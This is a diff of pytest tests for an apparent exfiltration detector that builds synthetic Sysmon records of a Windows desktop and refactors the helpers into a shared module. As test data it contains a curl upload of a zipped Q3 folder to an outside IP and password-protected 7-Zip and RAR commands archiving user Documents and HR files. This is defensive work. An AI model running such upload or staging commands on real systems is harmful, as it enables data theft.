@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import json
 from pathlib import Path
-from xml.sax.saxutils import escape
 
 import pytest
 
@@ -96,121 +95,43 @@ def test_text_inside_an_api_replica_lowers_nothing(
 
 # --- hosts: Sysmon records of a Windows desktop --------------------------------------------
 
-_LOGON = "0x3e7a1"
+TEAMS = fleet.TEAMS.format(u="a.lee")
+ONEDRIVE = fleet.ONEDRIVE.format(u="a.lee")
 
 
-def _sysmon(eid: int, time: str, record: int, data: dict[str, str]) -> str:
-    fields = "".join(f'<Data Name="{k}">{escape(v)}</Data>' for k, v in data.items())
-    return (
-        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
-        '<Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>'
-        f"<EventID>{eid}</EventID><Version>5</Version><Level>4</Level><Task>{eid}</Task>"
-        f'<TimeCreated SystemTime="2026-11-27T{time}.0000000Z"/>'
-        f"<EventRecordID>{record}</EventRecordID><Correlation/>"
-        '<Execution ProcessID="3140" ThreadID="4412"/>'
-        "<Channel>Microsoft-Windows-Sysmon/Operational</Channel>"
-        "<Computer>ACC-WS-0107.corp.example.com</Computer>"
-        f"</System><EventData>{fields}</EventData></Event>\n"
-    )
-
-
-def _guid(n: int) -> str:
-    return f"{{5b0b2d1a-3c4e-6751-{n:04x}-000000001c00}}"
-
-
-def _start(time: str, record: int, n: int, image: str, cmd: str, parent: int) -> str:
-    return _sysmon(
-        1,
-        time,
-        record,
-        {
-            "UtcTime": f"2026-11-27 {time}.000",
-            "ProcessGuid": _guid(n),
-            "ProcessId": str(1000 + n),
-            "Image": image,
-            "CommandLine": cmd,
-            "User": "CORP\\a.lee",
-            "LogonId": _LOGON,
-            "ParentProcessGuid": _guid(parent),
-            "ParentProcessId": str(1000 + parent),
-            "ParentImage": "C:\\Windows\\explorer.exe",
-        },
-    )
-
-
-def _net(time: str, record: int, n: int, image: str, ip: str, port: int) -> str:
-    return _sysmon(
-        3,
-        time,
-        record,
-        {
-            "UtcTime": f"2026-11-27 {time}.000",
-            "ProcessGuid": _guid(n),
-            "ProcessId": str(1000 + n),
-            "Image": image,
-            "User": "CORP\\a.lee",
-            "Protocol": "tcp",
-            "Initiated": "true",
-            "SourceIp": "10.20.4.17",
-            "SourcePort": str(50000 + record % 1000),
-            "DestinationIp": ip,
-            "DestinationPort": str(port),
-        },
-    )
-
-
-TEAMS = "C:\\Users\\a.lee\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"
-ONEDRIVE = "C:\\Users\\a.lee\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
-PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-
-
-def _desktop(upload: str | None) -> str:
+def desktop_records(upload: str | None) -> str:
+    """A morning on a desktop: Teams and OneDrive, started at logon, talk to the internet all
+    along; the user zips a folder and robocopies it to the team share; maybe an upload."""
+    day = fleet.Day()
+    sysmon = fleet.Sysmon(day)
+    desk = fleet.Desktop("ACC-WS-0107.corp.example.com", "a.lee", "10.20.4.17", "0x3e7a1")
+    t = fleet.START + 14 * 3600
+    sysmon.connect(desk, 2, TEAMS, "52.112.0.10", 443, t - 240)
+    sysmon.connect(desk, 3, ONEDRIVE, "13.107.42.12", 443, t - 140)
+    zipped = "C:\\Users\\a.lee\\Q3.zip"
     zip_cmd = (
         'powershell.exe -Command "Compress-Archive -Path C:\\Users\\a.lee\\Documents\\Q3\\* '
-        '-DestinationPath C:\\Users\\a.lee\\Q3.zip"'
+        f'-DestinationPath {zipped}"'
     )
-    lines = [
-        # Teams and OneDrive run all day, started at logon, talking to the internet.
-        _net("13:58:02", 1, 2, TEAMS, "52.112.0.10", 443),
-        _net("13:59:40", 2, 3, ONEDRIVE, "13.107.42.12", 443),
-        _start("14:02:11", 3, 10, PS, zip_cmd, 1),
-        _sysmon(
-            11,
-            "14:02:13",
-            4,
-            {
-                "ProcessGuid": _guid(10),
-                "ProcessId": "1010",
-                "Image": PS,
-                "TargetFilename": "C:\\Users\\a.lee\\Q3.zip",
-            },
-        ),
-        _start(
-            "14:02:40",
-            5,
-            11,
-            "C:\\Windows\\System32\\Robocopy.exe",
-            "robocopy C:\\Users\\a.lee \\\\fs01\\finance Q3.zip",
-            1,
-        ),
-        _net("14:02:41", 6, 11, "C:\\Windows\\System32\\Robocopy.exe", "10.20.0.5", 445),
-        _net("14:04:02", 7, 2, TEAMS, "52.112.0.10", 443),
-        _net("14:05:40", 8, 3, ONEDRIVE, "13.107.42.12", 443),
-        _net("14:06:10", 9, 2, TEAMS, "52.113.194.132", 443),
-    ]
+    sysmon.start(desk, 10, fleet.PS, zip_cmd, t, 1)
+    sysmon.file(desk, 10, fleet.PS, zipped, t + 2)
+    copy = "robocopy C:\\Users\\a.lee \\\\fs01\\finance Q3.zip"
+    sysmon.start(desk, 11, fleet.ROBOCOPY, copy, t + 29, 1)
+    sysmon.connect(desk, 11, fleet.ROBOCOPY, "10.20.0.5", 445, t + 30)
+    sysmon.connect(desk, 2, TEAMS, "52.112.0.10", 443, t + 111)
+    sysmon.connect(desk, 3, ONEDRIVE, "13.107.42.12", 443, t + 209)
+    sysmon.connect(desk, 2, TEAMS, "52.113.194.132", 443, t + 239)
     if upload:
-        lines += [
-            _start("14:07:00", 10, 12, "C:\\Windows\\System32\\curl.exe", upload, 1),
-            _net("14:07:01", 11, 12, "C:\\Windows\\System32\\curl.exe", "203.0.113.77", 443),
-        ]
-    return "".join(lines)
+        sysmon.start(desk, 12, fleet.CURL_EXE, upload, t + 289, 1)
+        sysmon.connect(desk, 12, fleet.CURL_EXE, "203.0.113.77", 443, t + 290)
+    return day.sysmon_text()
 
 
 def test_a_desktop_zip_to_a_share_is_not_exfiltrated_by_teams_and_onedrive(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     path = tmp_path / "sysmon.xml"
-    path.write_text(_desktop(None))
+    path.write_text(desktop_records(None))
     alerts = detect(capsys, str(path))
     assert [a["severity"] for a in alerts] == ["Low"]
     [finding] = alerts
@@ -225,7 +146,7 @@ def test_a_desktop_upload_tied_to_the_zip_is_still_high(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     path = tmp_path / "sysmon.xml"
-    path.write_text(_desktop("curl.exe -T C:\\Users\\a.lee\\Q3.zip https://203.0.113.77/u"))
+    path.write_text(desktop_records("curl.exe -T C:\\Users\\a.lee\\Q3.zip https://203.0.113.77/u"))
     [alert] = [a for a in detect(capsys, str(path)) if a["severity"] != "Low"]
     assert alert["severity"] in ("High", "Critical")
     assert "203.0.113.77" in json.dumps(alert)
@@ -280,13 +201,12 @@ def test_a_learned_nightly_backup_scores_informational_on_an_ordinary_night(
 # --- a plan is not a deed ------------------------------------------------------------------
 
 CMD = "C:\\Windows\\System32\\cmd.exe"
-SEVENZIP = "C:\\Program Files\\7-Zip\\7z.exe"
 
 
 @pytest.mark.parametrize(
     ("line", "image"),
     [
-        ('cmd.exe /c "7z.exe u archive.7z -pblue C:\\Users\\a.lee\\Documents\\*"', SEVENZIP),
+        ('cmd.exe /c "7z.exe u archive.7z -pblue C:\\Users\\a.lee\\Documents\\*"', fleet.SEVENZIP),
         (
             'cmd.exe /c ""C:\\Program Files\\WinRAR\\Rar.exe" a -r -hpblue hr.rar C:\\HR\\*"',
             "C:\\Program Files\\WinRAR\\Rar.exe",
@@ -296,15 +216,19 @@ SEVENZIP = "C:\\Program Files\\7-Zip\\7z.exe"
 def test_an_archiver_named_in_a_shell_line_that_never_started_is_at_most_low(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str, image: str
 ) -> None:
-    plan = _start("14:10:00", 20, 30, CMD, line, 1)
+    day = fleet.Day()
+    sysmon = fleet.Sysmon(day)
+    desk = fleet.Desktop("ACC-WS-0107.corp.example.com", "a.lee", "10.20.4.17", "0x3e7a1")
+    t = fleet.START + 14 * 3600
+    sysmon.start(desk, 30, CMD, line, t, 1)
     path = tmp_path / "plan.xml"
-    path.write_text(plan)
+    path.write_text(day.sysmon[0][1])
     [attempt] = detect(capsys, str(path))
     assert attempt["severity"] == "Low"
     assert "attempted; the archiver did not start" in json.dumps(attempt)
     # Sysmon records every start: with the archiver's own start it is the deed again.
-    ran = _start("14:10:01", 21, 31, image, line.split('/c "', 1)[1].rstrip('"'), 30)
-    path.write_text(plan + ran)
+    sysmon.start(desk, 31, image, line.split('/c "', 1)[1].rstrip('"'), t + 1, 30)
+    path.write_text(day.sysmon_text())
     [deed] = detect(capsys, str(path))
     assert deed["severity"] == "Medium"
     assert "did not start" not in json.dumps(deed)
@@ -336,7 +260,7 @@ def export_day(
     writer.exec(pod, aws[0], aws[1], aws[2], aws[3])
     writer.flow(pod, aws, t + 41, f"52.217.{day}.{20 + day}", 443, size, 3)
     path = folder / f"export-{day}-{bucket}-{size}.jsonl"
-    path.write_bytes(b"".join(r + b"\n" for _, r in sorted(records.tetragon)))
+    path.write_bytes(records.tetragon_bytes())
     return path
 
 
@@ -375,7 +299,7 @@ def test_a_url_host_is_internal_when_its_connection_went_to_an_internal_address(
     writer.exec(pod, curl[0], curl[1], curl[2], curl[3])
     writer.flow(pod, curl, t + 6, "10.20.0.5", 443, 4_000_000, 2)
     path = tmp_path / "internal.jsonl"
-    path.write_bytes(b"".join(r + b"\n" for _, r in sorted(records.tetragon)))
+    path.write_bytes(records.tetragon_bytes())
     [finding] = detect(capsys, str(path))
     assert finding["severity"] == "Low"
     assert finding["finding_info"]["analytic"]["uid"] == "tw-archive-internal"  # type: ignore[index]
